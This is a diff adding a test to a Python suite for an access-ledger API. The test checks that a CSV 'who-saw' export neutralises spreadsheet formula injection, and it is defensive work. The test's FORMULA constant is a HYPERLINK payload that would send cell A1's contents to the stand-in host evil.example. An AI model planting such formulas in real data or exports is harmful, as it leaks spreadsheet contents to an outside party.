@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import socket
 import subprocess
 import sys
@@ -148,3 +150,23 @@ def test_a_batch_recording_one_entry_twice_is_refused_whole(
     assert reply.json()["indexes"] == [0, 1]
     status = httpx.get(f"{base}/v1/ledger/status", headers=bearer(keys["auditor"]))
     assert status.json()["size"] == 0
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_a_formula_in_a_justification_is_neutralised_in_csv(
+    server: tuple[str, dict[str, str]],
+) -> None:
+    """OWASP CSV injection: a cell starting with '=' is written as text ('=...), so a DPO's
+    spreadsheet shows it instead of running it; the JSON keeps the text as recorded."""
+    base, keys = server
+    body = access_command(HOUR_AGO, subject=subject(3), justification=FORMULA)
+    body.pop("command")
+    assert httpx.post(f"{base}/v1/accesses", json=body, headers=bearer(keys["source"])).is_success
+    reply = httpx.get(
+        f"{base}/v1/subjects/{subject(3)}/who-saw?format=csv", headers=bearer(keys["dpo"])
+    )
+    rows = list(csv.DictReader(io.StringIO(reply.text)))
+    assert "'" + FORMULA in [row["justification"] for row in rows]
+    assert FORMULA not in [row["justification"] for row in rows]
